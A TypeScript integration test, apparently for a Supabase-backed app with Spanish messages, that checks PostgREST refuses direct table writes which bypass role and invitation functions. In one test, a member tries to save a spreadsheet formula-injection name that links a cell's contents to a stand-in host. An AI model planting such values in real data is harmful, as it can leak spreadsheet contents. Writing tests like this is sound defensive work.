// Issue 23 §4: what the app changes through a function is never writable as a table. A superadmin
// who writes users_roles or staff_invitations by hand (supabase-js as the browser has it) would skip
// the rules of set_staff_role and invite_staff (never a member made staff, never their own role):
// every such write is refused by PostgREST as a missing privilege, nothing changes, and the function
// that keeps the rule answers with its own Spanish sentence. The three writes the screens do make
// directly (a lead's follow-up state, the settings row, deleting a supplier) still work.
import { beforeAll, describe, expect, it } from 'vitest';
import { memberPersona, staffPersona, type Persona } from './fixtures/personas';
import { unique } from './fixtures/auth-helpers';
import { sql } from './support';

let superadmin: Persona;
let finance: Persona;
let admin: Persona;
let member: Persona & { clientId: string };

beforeAll(async () => {
  [superadmin, finance, admin, member] = await Promise.all([
    staffPersona('superadmin'),
    staffPersona('superadmin', true),
    staffPersona('admin'),
    memberPersona(),
  ]);
});

/** PostgREST's answer to a write the role has no privilege for: 403 with SQLSTATE 42501. */
function expectNoPrivilege(answer: { error: { code?: string; message: string } | null; status: number }) {
  expect(answer.status).toBe(403);
  expect(answer.error).toMatchObject({ code: '42501' });
  expect(answer.error?.message).toMatch(/^permission denied for table /);
}

describe('un superadmin no se salta las funciones de Usuarios escribiendo las tablas', () => {
  it('no convierte a un miembro en admin con PATCH users_roles; set_staff_role lo rechaza en español', async () => {
    const patched = await finance.client.from('users_roles').update({ role: 'admin' }).eq('user_id', member.userId).select();
    expectNoPrivilege(patched);
    const inserted = await finance.client.from('users_roles').upsert({ user_id: member.userId, role: 'superadmin' }).select();
    expectNoPrivilege(inserted);
    const [row] = await sql<{ role: string }>('select role from public.users_roles where user_id = $1', [member.userId]);
    expect(row).toEqual({ role: 'cliente' });

    const viaFunction = await finance.client.rpc('set_staff_role', { p_user_id: member.userId, p_role: 'admin' });
    expect(viaFunction.error).toMatchObject({ hint: 'savia:unknown_staff', message: 'Esa persona ya no tiene acceso: invítala de nuevo.' });
  });

  it('no invita el correo de un miembro con POST staff_invitations; invite_staff lo rechaza en español', async () => {
    const posted = await superadmin.client.from('staff_invitations').insert({ email: member.email, role: 'admin' }).select();
    expectNoPrivilege(posted);
    expect(await sql('select 1 from public.staff_invitations where lower(email) = lower($1)', [member.email])).toEqual([]);

    const viaFunction = await superadmin.client.rpc('invite_staff', { p_email: member.email, p_role: 'admin' });
    expect(viaFunction.error).toMatchObject({
      hint: 'savia:member_email',
      message: 'Ese correo es de un miembro: los miembros se administran en Clientes, no aquí.',
    });
  });

  it('no revoca ni reabre invitaciones ni quita accesos por la tabla', async () => {
    const email = unique('invitada');
    const invited = await superadmin.client.rpc('invite_staff', { p_email: email, p_role: 'admin' });
    expect(invited.error).toBeNull();
    const [{ id }] = await sql<{ id: string }>('select id from public.staff_invitations where email = $1', [email]);
    expectNoPrivilege(await superadmin.client.from('staff_invitations').update({ role: 'superadmin' }).eq('id', id).select());
    expectNoPrivilege(await superadmin.client.from('staff_invitations').delete().eq('id', id).select());
    expectNoPrivilege(await superadmin.client.from('users_roles').delete().eq('user_id', admin.userId).select());
    expect(await sql('select role from public.staff_invitations where id = $1', [id])).toEqual([{ role: 'admin' }]);
    expect(await sql('select role from public.users_roles where user_id = $1', [admin.userId])).toEqual([{ role: 'admin' }]);
  });
});

describe('las tablas que solo cambian por una función no se escriben por la API', () => {
  it('miembros: ni el propio miembro ni el personal escriben clients (la ficha cambia con update_client_contact)', async () => {
    expectNoPrivilege(await member.client.from('clients').update({ name: '=HYPERLINK("https://x.test/?"&A1,"Ver")' }).eq('id', member.clientId).select());
    expectNoPrivilege(await admin.client.from('clients').update({ phone: '+57 300 000 0000' }).eq('id', member.clientId).select());
    expectNoPrivilege(
      await admin.client
        .from('clients')
        .insert({ name: 'Colada', email: unique('colada') })
        .select(),
    );
    expectNoPrivilege(await superadmin.client.from('clients').delete().eq('id', member.clientId).select());
    expect(await sql('select name from public.clients where id = $1', [member.clientId])).toEqual([{ name: 'Miembro de Prueba' }]);
  });

  it('catálogo, costos, recetas, proveedores, plan y análisis: solo por sus funciones', async () => {
    const [{ id: productId }] = await sql<{ id: string }>(
      `insert into public.products (sku, name, price, points) values ($1, 'Producto de privilegios', 10, 1) returning id`,
      [`PRIV-${crypto.randomUUID().slice(0, 8)}`],
    );
    const [{ id: supplierId }] = await sql<{ id: string }>(`insert into public.suppliers (name) values ($1) returning id`, [
      `Proveedor de privilegios ${crypto.randomUUID().slice(0, 8)}`,
    ]);
    const writes = [
      admin.client.from('products').update({ price: 1 }).eq('id', productId).select(),
      admin.client
        .from('products')
        .insert({ sku: `PRIV-X-${Date.now()}`, name: 'Colado', price: 1 })
        .select(),
      finance.client.from('product_costs').upsert({ product_id: productId, unit_cost: 0.01 }).select(),
      admin.client.from('recipes').insert({ title: 'Receta colada' }).select(),
      superadmin.client.from('suppliers').update({ name: 'Otro nombre' }).eq('id', supplierId).select(),
      superadmin.client.from('suppliers').insert({ name: 'Proveedor colado' }).select(),
      superadmin.client.from('supplier_products').insert({ supplier_id: supplierId, product_id: productId }).select(),
      superadmin.client.from('star_level_configs').update({ volume_bonus_rate: 0.5 }).eq('level', 1).select(),
      superadmin.client.from('health_analyses').delete().eq('client_id', member.clientId).select(),
    ];
    for (const answer of await Promise.all(writes)) expectNoPrivilege(answer);
    expect(await sql('select price::text from public.products where id = $1', [productId])).toEqual([{ price: '10.00' }]);
    await sql('update public.products set is_active = false where id = $1', [productId]);
  });

  it('lo que las pantallas sí escriben directamente sigue funcionando: el estado de un contacto, la configuración, borrar un proveedor', async () => {
    const [{ id: leadId }] = await sql<{ id: string }>(
      `insert into public.leads (client_id, name, email, consented_at) values ($1, 'Visitante', 'visitante@correo.test', now()) returning id`,
      [member.clientId],
    );
    const followed = await member.client.from('leads').update({ status: 'contacted' }).eq('id', leadId).select('status');
    expect(followed).toMatchObject({ error: null, data: [{ status: 'contacted' }] });
    // …but only the state: what the visitor wrote is theirs.
    expectNoPrivilege(await member.client.from('leads').update({ message: 'otro mensaje' }).eq('id', leadId).select());

    const [{ company_name: company }] = await sql<{ company_name: string }>(`select company_name from public.metadata where id = 'app_settings'`);
    const saved = await superadmin.client.from('metadata').upsert({ id: 'app_settings', company_name: company }).select('company_name');
    expect(saved).toMatchObject({ error: null, data: [{ company_name: company }] });

    const [{ id: supplierId }] = await sql<{ id: string }>(`insert into public.suppliers (name) values ($1) returning id`, [
      `Proveedor por borrar ${crypto.randomUUID().slice(0, 8)}`,
    ]);
    const removed = await superadmin.client.from('suppliers').delete().eq('id', supplierId).select('id');
    expect(removed).toMatchObject({ error: null, data: [{ id: supplierId }] });
  });
});
